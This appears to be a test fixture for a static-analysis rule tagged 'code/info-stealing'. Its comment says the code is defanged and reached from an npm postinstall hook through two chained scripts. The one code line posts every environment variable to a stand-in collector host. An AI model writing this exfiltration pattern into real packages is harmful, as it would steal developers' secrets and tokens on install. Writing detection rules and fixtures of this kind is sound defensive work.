// Defanged: reached from postinstall through two named scripts (npm run setup -> run-s check).
// ruleid: code/info-stealing
require('https').request({ hostname: 'collector.example.invalid', path: '/e', method: 'POST' }).end(JSON.stringify(process.env));
